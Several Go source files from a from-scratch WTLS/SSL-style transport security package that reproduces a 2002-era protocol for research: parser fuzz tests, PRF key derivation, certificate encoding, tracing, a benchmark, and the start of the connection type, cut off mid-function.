	if _, _, err := readRecord(&r); err == nil {
		t.Fatal("oversized record length accepted")
	}
}

// TestNetConnInterface is the compile-time contract made explicit in a
// test, so a regression reads as a test failure too.
func TestNetConnInterface(t *testing.T) {
	var _ net.Conn = (*Conn)(nil)
}
