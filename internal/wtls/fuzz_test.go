package wtls

import (
	"bytes"
	"testing"
)

// Fuzz targets for everything that parses attacker-controlled bytes. The
// seed corpus runs under plain `go test`; `go test -fuzz` explores
// further. The invariant is uniform: parsers must return errors, never
// panic, and anything that parses must re-marshal to an equivalent value.

func FuzzParseClientHello(f *testing.F) {
	ch := &clientHello{random: make([]byte, 32), sessionID: []byte{1, 2}, suites: []uint16{0x000A, 0x0005}}
	_, body, _ := splitHandshake(ch.marshal())
	f.Add(body)
	f.Add([]byte{})
	f.Add(bytes.Repeat([]byte{0xff}, 40))
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := parseClientHello(data)
		if err != nil {
			return
		}
		// Re-marshal and re-parse: must be stable.
		_, body, err := splitHandshake(m.marshal())
		if err != nil {
			t.Fatalf("remarshal failed: %v", err)
		}
		m2, err := parseClientHello(body)
		if err != nil {
			t.Fatalf("reparse failed: %v", err)
		}
		if !bytes.Equal(m.random, m2.random) || !bytes.Equal(m.sessionID, m2.sessionID) {
			t.Fatal("roundtrip not stable")
		}
	})
}

func FuzzParseServerHello(f *testing.F) {
	sh := &serverHello{random: make([]byte, 32), sessionID: []byte{9}, suite: 0x002F}
	_, body, _ := splitHandshake(sh.marshal())
	f.Add(body)
	f.Add([]byte{0, 0})
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := parseServerHello(data)
		if err != nil {
			return
		}
		_, body, _ := splitHandshake(m.marshal())
		if _, err := parseServerHello(body); err != nil {
			t.Fatalf("reparse failed: %v", err)
		}
	})
}

func FuzzParseServerKeyExchange(f *testing.F) {
	f.Add([]byte{0, 1, 2, 0, 1, 3, 0, 1, 4, 0, 1, 5})
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := parseServerKeyExchange(data)
		if err != nil {
			return
		}
		_ = m.signedParams(make([]byte, 32), make([]byte, 32))
	})
}

func FuzzUnmarshalCertificate(f *testing.F) {
	f.Add([]byte{})
	f.Add(bytes.Repeat([]byte{0x41}, 60))
	f.Fuzz(func(t *testing.T, data []byte) {
		c, err := UnmarshalCertificate(data)
		if err != nil {
			return
		}
		c2, err := UnmarshalCertificate(c.Marshal())
		if err != nil {
			t.Fatalf("remarshal failed: %v", err)
		}
		if c2.Subject != c.Subject || c2.Serial != c.Serial {
			t.Fatal("certificate roundtrip not stable")
		}
	})
}

func FuzzReadRecord(f *testing.F) {
	f.Add([]byte{recordHandshake, 0x03, 0x01, 0x00, 0x01, 0xAA})
	f.Add([]byte{})
	// Oversized length field: the header claims 0xFFFF fragment bytes,
	// far past maxRecordFragment. The parser must reject on the header
	// alone — an attacker-controlled length may never size an
	// allocation.
	f.Add([]byte{recordHandshake, 0x03, 0x01, 0xFF, 0xFF})
	f.Add(append([]byte{recordApplicationData, 0x03, 0x01, 0xFF, 0xFF},
		bytes.Repeat([]byte{0x41}, 1024)...))
	f.Fuzz(func(t *testing.T, data []byte) {
		readRecord(bytes.NewReader(data)) //nolint:errcheck // must not panic
	})
}

func FuzzSplitHandshake(f *testing.F) {
	f.Add(wrapHandshake(typeClientHello, []byte{1, 2, 3}))
	f.Add([]byte{})
	// Oversized 24-bit length field (16 MiB claim in a 4-byte message):
	// must error out before buffering, not attempt to read it.
	f.Add([]byte{typeClientHello, 0xFF, 0xFF, 0xFF})
	f.Fuzz(func(t *testing.T, data []byte) {
		typ, body, err := splitHandshake(data)
		if err != nil {
			return
		}
		if len(body) > maxHandshakeMsg {
			t.Fatalf("accepted %d-byte handshake body past the %d cap", len(body), maxHandshakeMsg)
		}
		// Anything accepted must re-frame to the identical bytes.
		if !bytes.Equal(wrapHandshake(typ, body), data) {
			t.Fatal("split/wrap roundtrip not stable")
		}
	})
}
