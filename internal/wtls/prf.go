// Package wtls implements a WTLS/SSL-style transport security protocol
// from scratch: hello negotiation over the cipher-suite registry, RSA and
// ephemeral-DH key exchange, PRF-based key derivation, a record layer with
// per-record MACs, alerts, and session resumption.
//
// It is the "transport-layer security protocol ... with a secure transport
// service interface and secure connection management functions" of the
// paper's WAP architecture discussion (Section 2), sized for the
// mobile-appliance protocols of 2002/2003 (hence SHA-1/MD5, RC4, 3DES and
// export suites). The wire format is this repository's own — compact and
// explicit rather than bug-compatible with any RFC — but the message flow,
// state machine and key schedule follow SSL 3.0/WTLS structurally.
package wtls

import (
	"hash"

	"repro/internal/crypto/hmac"
	"repro/internal/crypto/sha1"
)

// prf is the key-derivation function: the TLS P_hash construction
// instantiated with HMAC-SHA-1 only (WTLS similarly used a single-hash
// PRF, unlike TLS 1.0's MD5⊕SHA1 split — a documented simplification).
//
//	A(0) = seed, A(i) = HMAC(secret, A(i-1))
//	out  = HMAC(secret, A(1)||seed) || HMAC(secret, A(2)||seed) || ...
func prf(secret []byte, label string, seed []byte, n int) []byte {
	newHash := func() hash.Hash { return sha1.New() }
	ls := append([]byte(label), seed...)
	out := make([]byte, 0, n+sha1.Size)
	a := ls
	for len(out) < n {
		h := hmac.New(newHash, secret)
		h.Write(a)
		a = h.Sum(nil)

		h2 := hmac.New(newHash, secret)
		h2.Write(a)
		h2.Write(ls)
		out = h2.Sum(out)
	}
	return out[:n]
}

// masterSecretLen is the SSL master secret length.
const masterSecretLen = 48

// deriveMaster computes the master secret from the premaster and both
// hello randoms.
func deriveMaster(premaster, clientRandom, serverRandom []byte) []byte {
	seed := append(append([]byte{}, clientRandom...), serverRandom...)
	return prf(premaster, "master secret", seed, masterSecretLen)
}

// keyMaterial is the per-direction key block carved from the PRF output.
type keyMaterial struct {
	clientMAC, serverMAC []byte
	clientKey, serverKey []byte
	clientIV, serverIV   []byte
}

// deriveKeys expands the master secret into the connection key block.
func deriveKeys(master, clientRandom, serverRandom []byte, macLen, keyLen, ivLen int) keyMaterial {
	seed := append(append([]byte{}, serverRandom...), clientRandom...)
	total := 2*macLen + 2*keyLen + 2*ivLen
	block := prf(master, "key expansion", seed, total)
	var km keyMaterial
	km.clientMAC, block = block[:macLen], block[macLen:]
	km.serverMAC, block = block[:macLen], block[macLen:]
	km.clientKey, block = block[:keyLen], block[keyLen:]
	km.serverKey, block = block[:keyLen], block[keyLen:]
	km.clientIV, block = block[:ivLen], block[ivLen:]
	km.serverIV = block[:ivLen]
	return km
}

// finishedLen is the Finished verify-data length.
const finishedLen = 12

// finishedData computes the Finished verify data over the handshake
// transcript hash.
func finishedData(master []byte, isClient bool, transcriptHash []byte) []byte {
	label := "server finished"
	if isClient {
		label = "client finished"
	}
	return prf(master, label, transcriptHash, finishedLen)
}
