package wtls

import (
	"bytes"
	"io"
	"sync"
)

// bufferedPipe returns two connected in-memory duplex endpoints whose
// writes never block. Unlike net.Pipe, a handshake failure path where both
// sides have queued flights (e.g. an alert crossing a pending message)
// cannot deadlock.
func bufferedPipe() (a, b io.ReadWriter) {
	ab := newBufHalf()
	ba := newBufHalf()
	return &pipeEnd{r: ba, w: ab}, &pipeEnd{r: ab, w: ba}
}

type bufHalf struct {
	mu     sync.Mutex
	cond   *sync.Cond
	buf    bytes.Buffer
	closed bool
}

func newBufHalf() *bufHalf {
	h := &bufHalf{}
	h.cond = sync.NewCond(&h.mu)
	return h
}

func (h *bufHalf) write(p []byte) (int, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.closed {
		return 0, io.ErrClosedPipe
	}
	n, _ := h.buf.Write(p)
	h.cond.Broadcast()
	return n, nil
}

func (h *bufHalf) read(p []byte) (int, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	for h.buf.Len() == 0 && !h.closed {
		h.cond.Wait()
	}
	if h.buf.Len() == 0 && h.closed {
		return 0, io.EOF
	}
	return h.buf.Read(p)
}

func (h *bufHalf) close() {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.closed = true
	h.cond.Broadcast()
}

type pipeEnd struct {
	r, w *bufHalf
}

func (e *pipeEnd) Read(p []byte) (int, error)  { return e.r.read(p) }
func (e *pipeEnd) Write(p []byte) (int, error) { return e.w.write(p) }

// CloseWrite ends the write direction (EOF for the peer's reads).
func (e *pipeEnd) CloseWrite() { e.w.close() }
