package wtls

import (
	"bytes"
	"fmt"
	"runtime"
	"sync/atomic"
	"testing"
)

// benchPair is one parallel worker's pre-keyed connection state.
type benchPair struct {
	seal, open *halfConn
	frags      [][]byte
}

// BenchmarkAggregateThroughput measures the multi-core capacity of the
// batched record path: every P runs its own fully-keyed seal/open pair
// (as gateway connections do) and pushes maxRecordsPerBatch-record
// batches through SealBatch, a wire parse, and OpenBatch. MB/s is the
// plaintext rate across all cores; records/s counts sealed-and-opened
// records. The path is alloc-free (pinned by TestSealOpenZeroAllocs), so
// allocs/op here gates the whole steady-state loop at 0 in CI.
func BenchmarkAggregateThroughput(b *testing.B) {
	for _, tc := range allocSuites {
		for _, size := range []int{256, 1024, 4096} {
			b.Run(fmt.Sprintf("%s/%dB", tc.name, size), func(b *testing.B) {
				payload := bytes.Repeat([]byte{0xA7}, size)
				payloads := make([][]byte, maxRecordsPerBatch)
				for i := range payloads {
					payloads[i] = payload
				}
				// Key every worker's connection pair (and warm its scratch)
				// outside the timed region, so the loop's allocs/op is the
				// record path alone.
				workers := make(chan *benchPair, runtime.GOMAXPROCS(0))
				for i := 0; i < cap(workers); i++ {
					seal, open := enabledPair(b, tc.id)
					p := &benchPair{seal: seal, open: open,
						frags: make([][]byte, 0, maxRecordsPerBatch)}
					wire, err := seal.SealBatch(recordApplicationData, payloads)
					if err != nil {
						b.Fatal(err)
					}
					for off := 0; off < len(wire); {
						n := int(wire[off+3])<<8 | int(wire[off+4])
						p.frags = append(p.frags, wire[off+recordHeaderLen:off+recordHeaderLen+n])
						off += recordHeaderLen + n
					}
					if _, err := open.OpenBatch(recordApplicationData, p.frags); err != nil {
						b.Fatal(err)
					}
					workers <- p
				}
				var records int64
				b.SetBytes(int64(size * maxRecordsPerBatch))
				b.ReportAllocs()
				b.ResetTimer()
				b.RunParallel(func(pb *testing.PB) {
					w := <-workers
					seal, open, frags := w.seal, w.open, w.frags
					done := int64(0)
					for pb.Next() {
						wire, err := seal.SealBatch(recordApplicationData, payloads)
						if err != nil {
							b.Error(err)
							return
						}
						frags = frags[:0]
						for off := 0; off < len(wire); {
							n := int(wire[off+3])<<8 | int(wire[off+4])
							frags = append(frags, wire[off+recordHeaderLen:off+recordHeaderLen+n])
							off += recordHeaderLen + n
						}
						out, err := open.OpenBatch(recordApplicationData, frags)
						if err != nil {
							b.Error(err)
							return
						}
						if len(out) != size*maxRecordsPerBatch {
							b.Errorf("opened %d bytes, want %d", len(out), size*maxRecordsPerBatch)
							return
						}
						done += int64(len(frags))
					}
					atomic.AddInt64(&records, done)
				})
				if secs := b.Elapsed().Seconds(); secs > 0 {
					b.ReportMetric(float64(atomic.LoadInt64(&records))/secs, "records/s")
				}
			})
		}
	}
}
