package wtls

// Compact binary encoding helpers shared by the certificate and handshake
// message codecs. All multi-byte integers are big-endian.

type builder struct {
	buf []byte
}

func (b *builder) addUint8(v uint8) { b.buf = append(b.buf, v) }
func (b *builder) addUint16(v uint16) {
	b.buf = append(b.buf, byte(v>>8), byte(v))
}
func (b *builder) addUint24(v int) {
	b.buf = append(b.buf, byte(v>>16), byte(v>>8), byte(v))
}
func (b *builder) addUint64(v uint64) {
	b.buf = append(b.buf, byte(v>>56), byte(v>>48), byte(v>>40), byte(v>>32),
		byte(v>>24), byte(v>>16), byte(v>>8), byte(v))
}
func (b *builder) addRaw(p []byte) { b.buf = append(b.buf, p...) }

// addBytes8 appends a 1-byte-length-prefixed byte string.
func (b *builder) addBytes8(p []byte) {
	b.addUint8(uint8(len(p)))
	b.addRaw(p)
}

// addBytes16 appends a 2-byte-length-prefixed byte string.
func (b *builder) addBytes16(p []byte) {
	b.addUint16(uint16(len(p)))
	b.addRaw(p)
}

func (b *builder) addString(s string) { b.addBytes16([]byte(s)) }

func (b *builder) bytes() []byte { return b.buf }

type parser struct {
	buf []byte
}

func (p *parser) empty() bool { return len(p.buf) == 0 }

func (p *parser) readUint8(v *uint8) bool {
	if len(p.buf) < 1 {
		return false
	}
	*v = p.buf[0]
	p.buf = p.buf[1:]
	return true
}

func (p *parser) readUint16(v *uint16) bool {
	if len(p.buf) < 2 {
		return false
	}
	*v = uint16(p.buf[0])<<8 | uint16(p.buf[1])
	p.buf = p.buf[2:]
	return true
}

func (p *parser) readUint24(v *int) bool {
	if len(p.buf) < 3 {
		return false
	}
	*v = int(p.buf[0])<<16 | int(p.buf[1])<<8 | int(p.buf[2])
	p.buf = p.buf[3:]
	return true
}

func (p *parser) readUint64(v *uint64) bool {
	if len(p.buf) < 8 {
		return false
	}
	*v = 0
	for i := 0; i < 8; i++ {
		*v = *v<<8 | uint64(p.buf[i])
	}
	p.buf = p.buf[8:]
	return true
}

func (p *parser) readRaw(n int, out *[]byte) bool {
	if n < 0 || len(p.buf) < n {
		return false
	}
	*out = append([]byte{}, p.buf[:n]...)
	p.buf = p.buf[n:]
	return true
}

func (p *parser) readBytes8(out *[]byte) bool {
	var n uint8
	if !p.readUint8(&n) {
		return false
	}
	return p.readRaw(int(n), out)
}

func (p *parser) readBytes16(out *[]byte) bool {
	var n uint16
	if !p.readUint16(&n) {
		return false
	}
	return p.readRaw(int(n), out)
}

func (p *parser) readString(s *string) bool {
	var b []byte
	if !p.readBytes16(&b) {
		return false
	}
	*s = string(b)
	return true
}
