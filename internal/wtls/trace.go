package wtls

import (
	"repro/internal/obs"
)

// Distributed-tracing support. A Conn does not own a trace — the
// session driver (loadgen worker, gateway session handler) does — so
// the connection records under whatever parent span the driver attaches
// with SetTraceParent: per-batch record spans live, and handshake
// phases buffered-then-replayed.
//
// The buffering exists for the server half: the client's trace context
// arrives in the first application record, i.e. *after* the server's
// handshake already ran. Phase boundaries are therefore captured
// unconditionally (when the distributed tracer is armed) into a small
// local log on the tracer's own clock, and replayed as spans once the
// parent is known. The client attaches its parent before Handshake, so
// its phases replay immediately at handshake end — one code path for
// both roles.

// hsPhase is one buffered handshake-phase timing; endUS is -1 while
// the phase is still open.
type hsPhase struct {
	name    string
	startUS int64
	endUS   int64
}

// phaseMark closes the open handshake phase (if any) at the tracer
// clock's current reading and opens a new one named name; "" only
// closes. Free when the distributed tracer is disarmed.
func (c *Conn) phaseMark(name string) {
	if !obs.DTraceEnabled() {
		return
	}
	now := obs.DTraceNowUS()
	c.trMu.Lock()
	if n := len(c.hsPhases); n > 0 && c.hsPhases[n-1].endUS < 0 {
		c.hsPhases[n-1].endUS = now
	}
	if name != "" {
		c.hsPhases = append(c.hsPhases, hsPhase{name: name, startUS: now, endUS: -1})
	}
	c.trMu.Unlock()
}

// SetTraceParent attaches sp as the span under which this connection's
// handshake-phase and record-batch spans are recorded (nil detaches).
// Call it before the handshake and the phases flush when the handshake
// returns; call it after (the gateway, once the client's trace context
// arrives on the wire) and the buffered phases flush immediately.
func (c *Conn) SetTraceParent(sp *obs.DSpan) {
	c.tparent.Store(sp)
	if sp != nil && (c.hsDone.Load() || c.hsErrSet()) {
		c.flushHandshakeTrace(sp)
	}
}

// hsErrSet reports whether the handshake already failed terminally.
func (c *Conn) hsErrSet() bool {
	c.hsMu.Lock()
	defer c.hsMu.Unlock()
	return c.hsErr != nil
}

// flushHandshakeTrace replays the buffered phase log as spans under
// parent: one handshake_<role> child spanning the phases, one leaf per
// phase (hello, key_exchange, finished). Idempotent — the first caller
// with a non-nil parent wins.
func (c *Conn) flushHandshakeTrace(parent *obs.DSpan) {
	if parent == nil {
		return
	}
	c.trMu.Lock()
	phases := c.hsPhases
	done := c.trFlushed
	c.trFlushed = true
	c.trMu.Unlock()
	if done || len(phases) == 0 {
		return
	}
	start := phases[0].startUS
	end := start
	for _, p := range phases {
		if p.endUS > end {
			end = p.endUS
		}
	}
	hs := parent.ChildAt("wtls", "handshake_"+c.jrole(), start)
	for _, p := range phases {
		pe := p.endUS
		if pe < p.startUS {
			pe = p.startUS
		}
		hs.Event("wtls", p.name, p.startUS, pe-p.startUS, 0)
	}
	hs.EndAt(end)
}
