package wtls

import (
	"errors"
	"fmt"
	"io"
	"math/big"

	"repro/internal/crypto/rsa"
	"repro/internal/crypto/sha1"
)

// Certificate is a minimal server certificate: a subject name bound to an
// RSA public key by a CA signature. (WTLS likewise defined its own
// compact certificate format in place of full X.509 — the paper's
// flexibility point about wireless-optimized protocol design.)
type Certificate struct {
	Subject   string
	Issuer    string
	Serial    uint64
	PublicKey *rsa.PublicKey
	Signature []byte
}

// tbs returns the to-be-signed byte string.
func (c *Certificate) tbs() []byte {
	var b builder
	b.addString(c.Subject)
	b.addString(c.Issuer)
	b.addUint64(c.Serial)
	b.addBytes16(c.PublicKey.N.Bytes())
	b.addUint64(uint64(c.PublicKey.E))
	return b.bytes()
}

// Marshal encodes the certificate.
func (c *Certificate) Marshal() []byte {
	var b builder
	b.addString(c.Subject)
	b.addString(c.Issuer)
	b.addUint64(c.Serial)
	b.addBytes16(c.PublicKey.N.Bytes())
	b.addUint64(uint64(c.PublicKey.E))
	b.addBytes16(c.Signature)
	return b.bytes()
}

// UnmarshalCertificate decodes a certificate.
func UnmarshalCertificate(data []byte) (*Certificate, error) {
	p := parser{buf: data}
	c := &Certificate{}
	var n []byte
	var e uint64
	if !p.readString(&c.Subject) || !p.readString(&c.Issuer) ||
		!p.readUint64(&c.Serial) || !p.readBytes16(&n) ||
		!p.readUint64(&e) || !p.readBytes16(&c.Signature) || !p.empty() {
		return nil, errors.New("wtls: malformed certificate")
	}
	c.PublicKey = &rsa.PublicKey{N: new(big.Int).SetBytes(n), E: int64(e)}
	if c.PublicKey.N.Sign() == 0 || c.PublicKey.E == 0 {
		return nil, errors.New("wtls: certificate with degenerate key")
	}
	return c, nil
}

// CA is a certificate authority able to issue certificates.
type CA struct {
	Name string
	Key  *rsa.PrivateKey
}

// NewCA creates a CA with a fresh key of the given size.
func NewCA(name string, rng io.Reader, bits int) (*CA, error) {
	key, err := rsa.GenerateKey(rng, bits)
	if err != nil {
		return nil, err
	}
	return &CA{Name: name, Key: key}, nil
}

// Issue signs a certificate binding subject to pub.
func (ca *CA) Issue(subject string, serial uint64, pub *rsa.PublicKey) (*Certificate, error) {
	c := &Certificate{Subject: subject, Issuer: ca.Name, Serial: serial, PublicKey: pub}
	digest := sha1.Sum(c.tbs())
	sig, err := rsa.SignPKCS1(ca.Key, "sha1", digest[:], nil)
	if err != nil {
		return nil, fmt.Errorf("wtls: issuing certificate: %w", err)
	}
	c.Signature = sig
	return c, nil
}

// Verify checks the certificate's CA signature and subject binding.
func (c *Certificate) Verify(root *rsa.PublicKey, expectSubject string) error {
	if expectSubject != "" && c.Subject != expectSubject {
		return fmt.Errorf("wtls: certificate subject %q, want %q", c.Subject, expectSubject)
	}
	digest := sha1.Sum(c.tbs())
	if err := rsa.VerifyPKCS1(root, "sha1", digest[:], c.Signature); err != nil {
		return fmt.Errorf("wtls: certificate signature invalid: %w", err)
	}
	return nil
}
