package wtls

import (
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/cost"
	"repro/internal/crypto/dh"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/rsa"
	"repro/internal/crypto/sha1"
	"repro/internal/obs"
	"repro/internal/obs/journal"
	"repro/internal/obs/prof"
	"repro/internal/suite"
)

// Handshake-level metric handles (record-level ones live in record.go).
var (
	mHandshakesFull    = obs.C("wtls.handshakes_full")
	mHandshakesResumed = obs.C("wtls.handshakes_resumed")
	mHandshakeFailures = obs.C("wtls.handshake_failures")
)

// Static energy/cycle profile frames: one per handshake kind, naming
// the kernel that dominates it (modular exponentiation for the
// public-key kinds, the PRF for a resume).
var hsProfSpans = func() map[cost.HandshakeKind]prof.Span {
	m := make(map[cost.HandshakeKind]prof.Span)
	for _, k := range []cost.HandshakeKind{
		cost.HandshakeRSA1024, cost.HandshakeRSA768, cost.HandshakeRSA512,
		cost.HandshakeDH1024, cost.HandshakeResume,
	} {
		m[k] = prof.Frame("wtls.Handshake/" + string(k) + "/" + cost.HandshakeKernel(k))
	}
	return m
}()

// Config configures a Conn endpoint.
type Config struct {
	// Rand supplies all randomness (hello randoms, premaster, blinding).
	Rand *prng.DRBG
	// Suites are the offered (client) or supported (server) suite IDs,
	// in preference order. Defaults to suite.DefaultServerPreference.
	Suites []uint16

	// Certificate and PrivateKey identify a server.
	Certificate *Certificate
	PrivateKey  *rsa.PrivateKey
	// DHGroup enables DHE suites on a server.
	DHGroup *dh.Group

	// RootCA is the client's trusted CA key.
	RootCA *rsa.PublicKey
	// ServerName is the subject the client expects in the certificate.
	ServerName string

	// SessionCache enables session resumption when set.
	SessionCache *SessionCache

	// RSAOptions tunes the server's private-key operation (blinding,
	// constant-time, CRT) — the tamper-resistance knobs of Section 3.4.
	RSAOptions *rsa.Options
}

func (c *Config) suitesOrDefault() []uint16 {
	if len(c.Suites) > 0 {
		return c.Suites
	}
	return suite.DefaultServerPreference()
}

// session is one resumable session's state (see session.go for the
// sharded cache that stores them).
type session struct {
	id      []byte
	master  []byte
	suiteID uint16
}

// Metrics accumulates the modeled security-processing work of a
// connection, feeding the platform cost accounting (internal/core).
type Metrics struct {
	FullHandshakes    int
	ResumedHandshakes int
	// HandshakeInstr is the modeled instruction cost of connection
	// set-ups (cost model of internal/cost).
	HandshakeInstr float64
	// BulkInstr is the modeled instruction cost of record protection.
	BulkInstr float64
	// AppBytesOut/In count application plaintext through the record layer.
	AppBytesOut, AppBytesIn int
	RecordsSent, RecordsRcv int
}

// Conn is one endpoint of a WTLS connection. It implements net.Conn:
// Read, Write and Close are safe for concurrent use, the first of any
// concurrent Read/Write runs the handshake exactly once, and when the
// underlying transport is itself a net.Conn the deadline methods plumb
// straight through to it (so a timed-out Read or Write surfaces the
// transport's own net.Error). Over a plain io.ReadWriter (the in-memory
// pipes of the simulations) deadlines report os.ErrNoDeadline.
type Conn struct {
	conn     io.ReadWriter
	nc       net.Conn // non-nil when conn supports deadlines/addrs
	isClient bool
	cfg      *Config

	// hsMu serializes handshake attempts; hsDone flips (with
	// release/acquire semantics) once the handshake has succeeded, and
	// hsErr pins the first fatal handshake error so later calls fail
	// fast instead of re-reading a desynchronized wire.
	hsMu   sync.Mutex
	hsDone atomic.Bool
	hsErr  error

	// writeMu guards the outbound half connection and the wire writes
	// through it: sealed records alias scratch that must reach the wire
	// before the next seal, and records from concurrent writers must
	// not interleave mid-record. wfrags is the fragment-list scratch
	// Write uses to batch large payloads into one SealBatch call.
	writeMu sync.Mutex
	out     halfConn
	wfrags  [][]byte

	// readMu guards the inbound half connection, the record reader, the
	// reassembly buffers, and post-handshake wire reads. rfrags is the
	// fragment-list scratch Read uses to drain buffered records as one
	// OpenBatch call.
	readMu sync.Mutex
	in     halfConn
	rr     *recordReader
	rfrags [][]byte

	suite     *suite.Suite
	resumed   bool
	closed    atomic.Bool
	closeOnce sync.Once

	transcript   *sha1.Digest
	handshakeBuf []byte

	// readBuf holds decrypted-but-undelivered application data; readOff
	// is the delivery cursor into it, so draining a buffered batch does
	// not reslice away the buffer's reusable capacity.
	readBuf []byte
	readOff int

	sessionID []byte
	master    []byte

	// mmu guards metrics, which both directions update.
	mmu     sync.Mutex
	metrics Metrics

	// jphase numbers this connection's journaled handshake phases so the
	// event stream orders by protocol progress, not wall clock.
	jphase int64

	// tparent is the distributed-trace span this connection's record
	// batches and handshake phases attach under (nil = untraced); trMu
	// guards the buffered phase log replayed once a parent is known
	// (see trace.go).
	tparent   atomic.Pointer[obs.DSpan]
	trMu      sync.Mutex
	hsPhases  []hsPhase
	trFlushed bool
}

// Conn must satisfy net.Conn so gateways can treat a secured session
// exactly like the TCP connection underneath it.
var _ net.Conn = (*Conn)(nil)

// Client wraps conn as the client side of a WTLS connection.
func Client(conn io.ReadWriter, cfg *Config) *Conn {
	nc, _ := conn.(net.Conn)
	return &Conn{conn: conn, nc: nc, isClient: true, cfg: cfg,
		transcript: sha1.New(), rr: newRecordReader(conn)}
}

// Server wraps conn as the server side of a WTLS connection.
func Server(conn io.ReadWriter, cfg *Config) *Conn {
	nc, _ := conn.(net.Conn)
	return &Conn{conn: conn, nc: nc, isClient: false, cfg: cfg,
		transcript: sha1.New(), rr: newRecordReader(conn)}
}

// pipeAddr is the placeholder address of a Conn over an in-memory pipe.
type pipeAddr struct{}

func (pipeAddr) Network() string { return "wtls" }
func (pipeAddr) String() string  { return "pipe" }

// LocalAddr returns the underlying transport's local address, or a
// placeholder for in-memory transports.
func (c *Conn) LocalAddr() net.Addr {
	if c.nc != nil {
		return c.nc.LocalAddr()
	}
	return pipeAddr{}
}

// RemoteAddr returns the underlying transport's remote address, or a
// placeholder for in-memory transports.
func (c *Conn) RemoteAddr() net.Addr {
	if c.nc != nil {
		return c.nc.RemoteAddr()
	}
	return pipeAddr{}
}

// SetDeadline sets both read and write deadlines on the underlying
// transport. Over a transport without deadline support it returns
// os.ErrNoDeadline, matching net.Conn conventions.
func (c *Conn) SetDeadline(t time.Time) error {
	if c.nc == nil {
		return os.ErrNoDeadline
	}
	return c.nc.SetDeadline(t)
}

// SetReadDeadline sets the read deadline on the underlying transport.
func (c *Conn) SetReadDeadline(t time.Time) error {
	if c.nc == nil {
		return os.ErrNoDeadline
	}
	return c.nc.SetReadDeadline(t)
}

// SetWriteDeadline sets the write deadline on the underlying transport.
func (c *Conn) SetWriteDeadline(t time.Time) error {
	if c.nc == nil {
		return os.ErrNoDeadline
	}
	return c.nc.SetWriteDeadline(t)
}

// ConnectionState reports the negotiated parameters.
type ConnectionState struct {
	HandshakeDone bool
	Suite         *suite.Suite
	Resumed       bool
	SessionID     []byte
}

// State returns the connection state.
func (c *Conn) State() ConnectionState {
	c.hsMu.Lock()
	defer c.hsMu.Unlock()
	return ConnectionState{
		HandshakeDone: c.hsDone.Load(),
		Suite:         c.suite,
		Resumed:       c.resumed,
		SessionID:     append([]byte{}, c.sessionID...),
	}
}

// Metrics returns the accumulated cost metrics.
func (c *Conn) Metrics() Metrics {
	c.mmu.Lock()
	defer c.mmu.Unlock()
	return c.metrics
}

// jrole names the endpoint's role in journal events.
func (c *Conn) jrole() string {
	if c.isClient {
		return "client"
	}
	return "server"
}

// jhs journals one handshake phase at debug level; t_sim is the phase
// ordinal within this connection's handshake.
func (c *Conn) jhs(phase string) {
	if journal.On(journal.LevelDebug) {
		c.jphase++
		journal.Emit(c.jphase, journal.LevelDebug, "wtls", "handshake_phase",
			journal.S("role", c.jrole()), journal.S("phase", phase))
	}
}

// alertRecv journals and returns a fatal alert received from the peer.
func (c *Conn) alertRecv(level, desc uint8) error {
	journal.Emit(c.jphase, journal.LevelWarn, "wtls", "alert_received",
		journal.S("role", c.jrole()),
		journal.I("level", int64(level)), journal.I("desc", int64(desc)))
	return &AlertError{Level: level, Description: desc}
}

// writeRecordOut seals and writes one record under the write lock.
// The sealed wire bytes alias the half connection's scratch and must
// reach the wire inside the same critical section, and concurrent
// writers' records must not interleave.
func (c *Conn) writeRecordOut(recType uint8, payload []byte) error {
	c.writeMu.Lock()
	defer c.writeMu.Unlock()
	wire, err := c.out.sealOne(recType, payload)
	if err != nil {
		return err
	}
	return writeFull(c.conn, wire)
}

// sendAlert writes an alert record (best effort).
func (c *Conn) sendAlert(level, desc uint8) {
	_ = c.writeRecordOut(recordAlert, []byte{level, desc})
}

func (c *Conn) fail(desc uint8, err error) error {
	journal.Emit(c.jphase, journal.LevelWarn, "wtls", "alert_abort",
		journal.S("role", c.jrole()), journal.I("desc", int64(desc)),
		journal.S("err", err.Error()))
	c.sendAlert(alertLevelFatal, desc)
	return err
}

// writeHandshake protects, frames and transcripts one handshake message.
func (c *Conn) writeHandshake(msg []byte) error {
	c.transcript.Write(msg)
	c.mmu.Lock()
	c.metrics.RecordsSent++
	c.mmu.Unlock()
	return c.writeRecordOut(recordHandshake, msg)
}

// readHandshakeMsg returns the next handshake message (type, body),
// reading records as needed and updating the transcript.
func (c *Conn) readHandshakeMsg() (uint8, []byte, error) {
	for {
		if len(c.handshakeBuf) >= 4 {
			n := int(c.handshakeBuf[1])<<16 | int(c.handshakeBuf[2])<<8 | int(c.handshakeBuf[3])
			if n > maxHandshakeMsg {
				// Refuse before buffering toward an attacker-chosen
				// 16 MB reassembly target.
				return 0, nil, c.fail(AlertHandshakeFailed,
					fmt.Errorf("wtls: handshake message length %d exceeds %d", n, maxHandshakeMsg))
			}
			if len(c.handshakeBuf) >= 4+n {
				msg := c.handshakeBuf[:4+n]
				c.handshakeBuf = c.handshakeBuf[4+n:]
				c.transcript.Write(msg)
				t, body, err := splitHandshake(msg)
				return t, body, err
			}
		}
		recType, frag, err := c.rr.next()
		if err != nil {
			return 0, nil, err
		}
		c.mmu.Lock()
		c.metrics.RecordsRcv++
		c.mmu.Unlock()
		payload, err := c.in.unprotect(recType, frag)
		if err != nil {
			return 0, nil, c.fail(AlertBadRecordMAC, err)
		}
		switch recType {
		case recordHandshake:
			c.handshakeBuf = append(c.handshakeBuf, payload...)
		case recordAlert:
			if len(payload) != 2 {
				return 0, nil, errors.New("wtls: malformed alert")
			}
			return 0, nil, c.alertRecv(payload[0], payload[1])
		default:
			return 0, nil, fmt.Errorf("wtls: unexpected record type %d during handshake", recType)
		}
	}
}

// expectHandshake reads a handshake message and checks its type.
func (c *Conn) expectHandshake(want uint8) ([]byte, error) {
	t, body, err := c.readHandshakeMsg()
	if err != nil {
		return nil, err
	}
	if t != want {
		return nil, c.fail(AlertHandshakeFailed,
